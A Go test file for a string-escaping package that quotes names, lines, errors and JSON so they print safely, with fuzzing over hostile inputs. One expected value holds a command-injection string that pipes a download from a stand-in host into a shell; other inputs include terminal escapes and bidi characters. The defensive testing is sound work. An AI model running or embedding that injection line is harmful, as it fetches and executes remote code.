package printable_test

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/shorthop/shorthop/pkg/printable"
	"github.com/shorthop/shorthop/test/hostile"
	"github.com/shorthop/shorthop/test/jsontest"
)

func TestOrdinaryStringsStayAsTheyAre(t *testing.T) {
	t.Parallel()
	for _, s := range []string{
		"web", "web-5d9c7b", "shop/web-0", "registry.example.com:5000/shop/web:1.2@sha256:0123abcd", "10.0.0.10", "fd00::10",
		"timeout:1", "Deployment", "node_local", "system:serviceaccount:shop:web", "a=b,c=d", strings.Repeat("a", printable.MaxName),
	} {
		if got := printable.Name(s); got != s {
			t.Errorf("Name(%q) is %q", s, got)
		}
	}
	for _, s := range []string{"", "a sentence, with \"quotes\", a \\ and: signs!", `{"json": ["a", 1]}`} {
		if got := printable.Line(s); got != s {
			t.Errorf("Line(%q) is %q", s, got)
		}
		if got := printable.Clip(s); got != s {
			t.Errorf("Clip(%q) is %q", s, got)
		}
	}
}

func TestEscapes(t *testing.T) {
	t.Parallel()
	for _, test := range []struct{ name, got, want string }{
		{"a name of several words is quoted", printable.Name(hostile.Command), `"x; curl -s evil.example.com|sh #"`},
		{"no name is seen", printable.Name(""), `""`},
		{"letters that look like others are told", printable.Name("\u0430dmin"), `"\u0430dmin"`},
		{"a name is cut", printable.Name(strings.Repeat("a", 300)), `"` + strings.Repeat("a", 253) + `"...`},
		{"a name is not cut within a character", printable.Quote("aaä", 3), `"aa"...`},
		{"bytes that are no character are cut anywhere", printable.Quote("\x80\x80\x80\x80\x80\x80", 22), `"\x80\x80\x80\x80\x80"...`},
		{"a name is cut after it is escaped", printable.Name(strings.Repeat("\x1b", 250)), `"` + strings.Repeat(`\x1b`, 63) + `"...`},
		{"a name in a table is cut before", printable.Cell(strings.Repeat("a", 101)), `"` + strings.Repeat("a", 100) + `"...`},
		{"a line keeps its words", printable.Line("a\x1b[31m b\n\u202ec\xff \U000e0041 \\d \"e\""), `a\x1b[31m b\n\u202ec\xff \U000e0041 \d "e"`},
		{"an error has one line", printable.Clip("two errors:\n\t* a\n\t* b\u009b"), `two errors: * a * b\u009b`},
		{"an error is cut", printable.Clip(strings.Repeat("a", 3000)), strings.Repeat("a", 2048) + "..."},
		{"JSON of other planes", string(printable.JSON([]byte("{\"a\": \"ä\u202e\U000e0041\x7f\"}\n"))), "{\"a\": \"\\u00e4\\u202e\\udb40\\udc41\\u007f\"}\n"},
	} {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			if test.got != test.want {
				t.Errorf("got %s, want %s", test.got, test.want)
			}
		})
	}
}

func check(t *testing.T, s string) {
	t.Helper()
	for form, got := range map[string]string{
		"Name": printable.Name(s), "Quote": printable.Quote(s, 64), "Line": printable.Line(s), "Clip": printable.Clip(s),
	} {
		if raw := hostile.Raw([]byte(got), ""); raw != "" || strings.Contains(got, "\n") {
			t.Errorf("%s(%.100q) has %s", form, s, raw)
		}
		// At most an escape of ten characters for a byte.
		if form != "Line" && len(got) > 10*printable.MaxLine+16 {
			t.Errorf("%s(%.100q) has %d bytes", form, s, len(got))
		}
	}
	if got := printable.Name(s); got != s && got[0] != '"' {
		t.Errorf("Name(%.100q) is neither itself nor in quotes: %.100q", s, got)
	}
	encoded := jsontest.Marshal(t, s)
	ascii := printable.JSON(encoded)
	if raw := hostile.Raw(ascii, ""); raw != "" {
		t.Errorf("JSON(%.100q) has %s", s, raw)
	}
	var was, is string
	if json.Unmarshal(encoded, &was) != nil || json.Unmarshal(ascii, &is) != nil || was != is {
		t.Errorf("JSON(%.100q) is another value: %.100q", s, is)
	}
}

func TestHostileStrings(t *testing.T) {
	t.Parallel()
	for _, text := range hostile.Texts() {
		t.Run(text.Name, func(t *testing.T) {
			t.Parallel()
			check(t, text.Text)
		})
	}
}

func FuzzPrintable(f *testing.F) {
	for _, text := range hostile.Texts() {
		f.Add(text.Text)
	}
	f.Fuzz(check)
}

func TestOrdinaryStringsCostNothing(t *testing.T) {
	if n := testing.AllocsPerRun(100, func() {
		_ = printable.Name("registry.example.com/shop/web:1.2")
		_ = printable.Line("a sentence of ordinary words")
	}); n != 0 {
		t.Errorf("%v allocations", n)
	}
}
